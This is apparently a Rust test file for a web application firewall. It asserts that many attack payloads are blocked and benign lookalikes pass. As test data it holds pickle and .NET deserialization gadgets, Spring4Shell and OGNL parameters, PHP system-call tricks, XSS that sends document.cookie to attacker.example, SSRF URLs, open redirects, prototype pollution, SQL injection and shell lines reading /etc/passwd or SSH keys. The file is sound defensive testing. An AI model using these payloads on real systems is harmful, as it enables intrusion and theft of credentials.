    // Frameworks' settings and mounted secrets by absolute path; a
    // sentence naming such a file passes.
    for q in [
        "/opt/app/application.properties",
        "/run/secrets/db_password",
        "/home/app/app/settings.py",
    ] {
        blocked(q, "lfi-os-file");
    }
    passes("my /app/settings.py fails after the upgrade");
    passes("my /win.ini fails");
    // An XInclude of a file of the application, whatever its prefix.
    for doc in [
        r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="config.php"/></r>"#,
        r#"<r><x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="config.php"/></r>"#,
    ] {
        assert_blocks_with(&post(e, "/xml", "application/xml", doc), "xxe-entity", doc);
    }
    let v = post(
        e,
        "/xml",
        "application/xml",
        "<r><include>config.php</include></r>",
    );
    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
}

/// The case-sensitive rules' gate let through what they are written
/// for: a protocol 0 pickle as `pickle.dumps` writes it (memo opcodes, no
/// capital inside a word), and, as a value of letters, digits and dots
/// alone, a .NET BinaryFormatter header in hex or a gadget's type name.
/// A pickle of plain data, prose lines and hex digests pass.
#[test]
fn case_sensitive_gadgets_pass_no_gate() {
    let e = default_engine();
    let form = "application/x-www-form-urlencoded";
    let verdict = |q: &str| post(e, "/load", form, &format!("data={}", pct(q)));
    for q in [
        "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
        "cos\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.",
        "csubprocess\ncheck_output\np0\n((lp1\nVid\np2\natp3\nRp4\n.",
        "0001000000ffffffff01000000000000000c02000000",
        "0001000000FFFFFFFF01000000000000000C02000000",
        "System.Windows.Data.ObjectDataProvider",
        "TextFormattingRunProperties",
    ] {
        assert_blocks_with(&verdict(q), "serialized-object-gadget", q);
    }
    for q in [
        "(dp0\nVuser\np1\nVbob\np2\ns.",
        "costs\nsystems\nrun daily at 12:30",
        "0001000000a4b3c2d1e0f9",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "System.Collections.Generic.List",
    ] {
        let v = verdict(q);
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
}

/// Values of letters, digits, dots, dashes and underscores alone meet
/// only the rules marked plain: Spring4Shell's parameter names (which
/// rewrite Tomcat's access log into a JSP shell), OGNL's switches and
/// FreeMarker's command class went unread as such names or values.
/// Words that merely share their parts pass.
#[test]
fn plain_names_and_values_meet_the_rules_written_for_them() {
    let e = default_engine();
    let log = "class.module.classLoader.resources.context.parent.pipeline.first";
    for t in [
        format!("/a?{log}.pattern=x"),
        format!("/a?{log}.suffix=.jsp"),
        format!("/a?{log}.directory=webapps/ROOT"),
        format!("/a?{log}.prefix=shell&{log}.fileDateFormat="),
        "/a?class.classLoader.resources.dirContext.docBase=x".to_owned(),
        "/a?x=_memberAccess.allowStaticMethodAccess".to_owned(),
        "/a?template=freemarker.template.utility.Execute".to_owned(),
    ] {
        let v = get(e, &t);
        assert_eq!(v.action, Action::Block, "{t}: {:?}", v.attacks);
    }
    for t in [
        "/a?class=premium&module=billing",
        "/a?classloader=default",
        "/a?resources.context.parent=1",
        "/a?pipeline.first.pattern=abc",
        "/a?template=freemarker.default",
        "/a?q=static.method.access",
    ] {
        let v = get(e, t);
        assert_eq!(v.action, Action::Pass, "{t}: {:?}", v.attacks);
    }
}

#[test]
fn fifth_review_bypasses_block_and_their_look_alikes_pass() {
    let e = default_engine();
    let form = "application/x-www-form-urlencoded";
    let blocked = |q: &str, rule: &str| {
        let v = post(e, "/load", form, &format!("data={}", pct(q)));
        assert_blocks_with(&v, rule, q);
    };
    let passes = |q: &str| {
        let v = post(e, "/load", form, &format!("data={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    };
    // A PHP function name assembled into a variable, then the variable
    // called in parentheses; an assembled greeting echoed passes.
    blocked("$y = 'sys'.'tem';($y)('uname');", "php-assembled-call");
    blocked(
        "$f=\"pass\".\"thru\"; ( $f ) ($_GET[c]);",
        "php-assembled-call",
    );
    passes("$greeting = 'hello'.' world'; echo($greeting);");
    // Base64 pickles that import a callable and call it: protocol 0
    // (`cos\nsystem\n(S'id'\ntR.`), 2 to 5 (`subprocess.check_output`).
    for q in [
        "Y29zCnN5c3RlbQooUydpZCcKdFIu",
        "gAJjY29tbWFuZHMKY2hlY2tfb3V0cHV0CnEAXXEBWAIAAABpZHECYYVxA1JxBC4=",
        "gANjc3VicHJvY2VzcwpjaGVja19vdXRwdXQKcQBdcQFYAgAAAGlkcQJhhXEDUnEELg==",
        "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
        "gAWVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
    ] {
        blocked(q, "python-pickle-encoded");
    }
    // A pickle of plain data, a Ruby session hash with its flash, an
    // image, a token and a gzipped page pass.
    for q in [
        "gASVIAAAAAAAAAB9lCiMBHVzZXKUjANib2KUjANpZHOUXZQoSwFLAmV1Lg==",
        "BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTAxMjM0NTY3ODlhYmNkZWYwMTIzNDU2Nzg5YWJjZGVmBjsAVEkiCmZsYXNoBjsAVG86JUFjdGlvbkRpc3BhdGNoOjpGbGFzaDo6Rmxhc2hIYXNoBzoKQHVzZWRvOghTZXQGOgpAaGFzaHsAOgxAY2xvc2VkRg==",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
        "H4sIAJroFmsC/7MpsMtIzcnJt9EvsAMARPuu0gwAAAA=",
    ] {
        passes(q);
    }
    // A Ruby Marshal object of a gadget class; a .NET BinaryFormatter
    // stream in the URL-safe alphabet.
    blocked(
        "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50cw==",
        "ruby-marshal-object",
    );
    blocked(
        "AAEAAAD_____AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I",
        "dotnet-serialized-encoded",
    );
    // A gzipped Java stream in a cookie, as JSF writes its view state.
    let state = "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7GAlf3WwcNiCReZGZjcGLhy8hNT3BKTS/KLPBk4SzKKUosz8nNSKgrsHRhAgKecA0gKgJgVABrl5KNSAAAA";
    let v = get_with(e, "/a", "Cookie", &format!("state={state}"));
    assert_blocks_with(&v, "java-serialized-encoded", "gzipped view state");
    // An HTML, SVG or XHTML file with a script; a saved page of markup and
    // CSS, and an image, pass.
    let mp = "multipart/form-data; boundary=b1";
    let upload = |filename: &str, ty: &str, data: &str| {
        let body = format!(
            "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: {ty}\r\n\r\n{data}\r\n--b1--\r\n"
        );
        post(e, "/upload", mp, &body)
    };
    for (filename, ty, data) in [
        (
            "a.html",
            "text/html",
            "<script>fetch(\"//attacker.example/\"+document.cookie)</script>",
        ),
        (
            "a.htm",
            "application/octet-stream",
            "<body><img src=x onerror=\"fetch('//x.example')\"></body>",
        ),
        (
            "a.svg",
            "image/svg+xml",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//x.example')\"/>",
        ),
        (
            "a.xhtml",
            "application/xhtml+xml",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:go()\">a</a></html>",
        ),
        (
            "a.txt",
            "text/html",
            "<p>x</p><script src=\"//x.example/a.js\"></script>",
        ),
    ] {
        assert_blocks_with(
            &upload(filename, ty, data),
            "upload-markup-script",
            filename,
        );
    }
    for (filename, ty, data) in [
        (
            "page.html",
            "text/html",
            "<!doctype html><html><head><style>body{font:14px Arial}</style></head><body><h1>Notes</h1><p class=\"one\">Saved online</p><a href=\"/about\">About</a></body></html>",
        ),
        (
            "logo.svg",
            "image/svg+xml",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>",
        ),
        (
            "photo.jpg",
            "image/jpeg",
            "\u{ff}\u{d8}\u{ff}\u{e0}JFIF onload=1 <script",
        ),
    ] {
        let v = upload(filename, ty, data);
        assert_eq!(v.action, Action::Pass, "{filename}: {:?}", v.attacks);
    }
    // Open redirects: two backslashes read as two slashes. A plain
    // protocol-relative URL passes, in a redirect's parameter too (sites
    // send their CDNs' and sibling sites' so).
    for t in [
        "/redirect?url=%5C%5Cattacker.example",
        "/redirect?url=%5C%2Fattacker.example",
        "/redirect?url=%2F%5Cattacker.example",
    ] {
        assert_blocks_with(&get(e, t), "open-redirect-slashes", t);
    }
    for t in [
        "/embed?url=//cdn.example/app.js",
        "/login?next=//cdn.example/home",
        "/redirect?url=//www.app.example/home",
        "/login?next=/dashboard",
    ] {
        let v = get(e, t);
        assert!(v.attacks.is_empty(), "{t}: {:?}", v.attacks);
    }
    // A script element made inside a JS string breakout; another element
    // passes.
    let q = "'-(s=document.createElement('script'),s.src='//attacker.example/x.js',document.head.append(s))-'";
    assert_blocks_with(
        &get(e, &format!("/page?q={}", pct(q))),
        "xss-script-element",
        q,
    );
    for q in [
        "var d = document.createElement('div'); d.className = 'note';",
        "const row = document.createElement('tr');",
    ] {
        let v = get(e, &format!("/page?q={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
    // JS setting markup from a plain string literal is no SQL string
    // closed early; a quote closed then `;` still is.
    passes("document.getElementById('x').innerHTML = 'hello';");
    let v = get(e, &format!("/a?id={}", pct("admin';")));
    assert!(
        v.attacks
            .iter()
            .any(|a| a.rule == "sqli-quote-tail-comment"),
        "{:?}",
        v.attacks
    );
    blocked("x';document.body.innerHTML=location.hash;//", "xss-js-sink");
}

#[test]
fn private_urls_and_schemes_without_slashes_block() {
    let e = default_engine();
    // A URL alone to a private address is what a server fetches: it
    // blocks at paranoia 1; in a sentence it only adds to the score.
    for u in [
        "http://10.0.0.5/admin",
        "https://192.168.0.1:8443/",
        "http://172.16.5.4/internal/api",
        "http://[fd12:3456::1]/",
    ] {
        let t = format!("/fetch?url={}", pct(u));
        assert_blocks_with(&get(e, &t), "ssrf-private-url", u);
    }
    for q in [
        "see http://192.168.1.1/ for the router settings",
        "192.168.1.10",
        "10.0.0.1 is our office gateway",
        "https://www.example.com/search?q=10.0.0.5+gateway",
        "router admin at 192.168.1.1, the guide at https://www.example.com/help",
    ] {
        let v = get(e, &format!("/fetch?url={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
    // A scheme and no slash: browsers read the host after it.
    for t in [
        "/login?next=https:attacker.example",
        "/login?next=https%3Aattacker.example%2Flogin",
        "/login?ReturnUrl=http:attacker.example",
        "/login?redirect=https:/attacker.example",
    ] {
        assert_blocks_with(&get(e, t), "open-redirect-slashes", t);
    }
    for q in [
        "HTTP:1.1 or HTTP:2",
        "https:443 and http:80",
        "https: the secure one",
    ] {
        let v = get(e, &format!("/login?next={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
}

#[test]
fn polluting_paths_in_documents_inside_values_block() {
    let e = default_engine();
    let form = "application/x-www-form-urlencoded";
    // `constructor` then `prototype` in a JSON document inside a value, a
    // JSON string or a JSON part, through arrays too.
    let doc = r#"{"a":[{"constructor":{"prototype":{"isAdmin":true}}}]}"#;
    let v = get(e, &format!("/a?data={}", pct(doc)));
    assert_blocks_with(&v, "prototype-pollution", doc);
    let v = post(e, "/a", form, &format!("data={}", pct(doc)));
    assert_blocks_with(&v, "prototype-pollution", doc);
    let body = json!({ "data": doc }).to_string();
    let v = post(e, "/a", "application/json", &body);
    assert_blocks_with(&v, "prototype-pollution", &body);
    let part = one_part("name=\"data\"", "application/json", doc);
    let v = post(e, "/a", "multipart/form-data; boundary=b1", &part);
    assert_blocks_with(&v, "prototype-pollution", "JSON part");
    for body in [
        r#"{"a":[{"__proto__":{"isAdmin":true}}]}"#,
        r#"[{"constructor":{"prototype":{"x":1}}}]"#,
    ] {
        let v = post(e, "/a", "application/json", body);
        assert_blocks_with(&v, "prototype-pollution", body);
    }
    assert_blocks_with(
        &post(e, "/a", form, "a[0][__proto__][x]=1"),
        "prototype-pollution",
        "form key",
    );
    // The words as keys or text, with no path from one to the other.
    for doc in [
        r#"{"constructor":"ACME Builders","prototype":{"stage":"beta"}}"#,
        r#"{"proto":"https","items":[{"constructor":"Bob"},{"prototype":"v2"}]}"#,
        r#"{"note":"the prototype of a constructor in JavaScript"}"#,
    ] {
        let v = get(e, &format!("/a?data={}", pct(doc)));
        assert_eq!(v.action, Action::Pass, "{doc}: {:?}", v.attacks);
        let v = post(e, "/a", "application/json", doc);
        assert_eq!(v.action, Action::Pass, "{doc}: {:?}", v.attacks);
    }
}

#[test]
fn developer_prose_passes_and_the_commands_in_it_still_block() {
    let e = default_engine();
    let form = "application/x-www-form-urlencoded";
    // As a browser posts it, with its length.
    let post = |e: &Engine, target: &str, ty: &str, body: &str| {
        let headers = vec![
            ("Host".to_owned(), "app.example".to_owned()),
            ("User-Agent".to_owned(), UA.to_owned()),
            ("Content-Type".to_owned(), ty.to_owned()),
            ("Content-Length".to_owned(), body.len().to_string()),
        ];
        let b = body.as_bytes().to_vec();
        let req = Request::from_parts("POST", target, headers, b, e.limits()).expect("request");
        e.inspect(&req, None)
    };
    let traceback = "Traceback (most recent call last):\n  File \"/app/x.py\", line 3, in <module>\n    import os\nModuleNotFoundError: No module named 'foo'";
    for q in [
        "pip install -r requirements.txt",
        "pip install -r requirements.txt fails with an SSL error, any idea?",
        "pip install -e .",
        traceback,
        "Steps:\n  find /var/log, then the newest file,\n  sort it by date, and send it",
    ] {
        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
        let v = post(
            e,
            "/comment",
            "application/json",
            &json!({ "text": q }).to_string(),
        );
        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
    }
    // A package the sender chose, a requirements file fetched by URL, and
    // a command alone on a line of its own still block.
    for q in [
        "pip install something",
        "pip3 install -r http://203.0.113.9/r.txt",
        "pip install -r /tmp/r.txt",
        "sudo pip install evil-package",
        "x\nfile /etc/passwd",
        "x\n  cat /etc/passwd\n",
        "a\nfind / -name id_rsa",
        "hello\ncat /etc/passwd, please",
    ] {
        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
        assert_eq!(v.action, Action::Block, "{q}: {:?}", v.attacks);
    }
}

/// A quoted JSON document compared with a quoted JSON path: SQL that
/// MySQL and PostgreSQL read through their JSON operators.
#[test]
fn a_json_document_compared_with_a_json_path_blocks() {
    assert_shapes(
        "sqli-json-path-compare",
        &[
            "'{\"a\":2,\"c\":[4,5,{\"f\":7}]}' < '$.c[2].f' = 7",
            "x' or '[1,2]' = '$[0]' or 'x",
            "' OR '$.a' <= '{\"a\":1}' -- ",
        ],
        &[
            "send '{\"theme\":\"dark\"}' = the default; '$.theme' is its path",
            "the filter '$.price' < 10 and the body '{\"price\":5}'",
            "{\"price\": \"5$\", \"range\": [1, 2]}",
        ],
    );
}
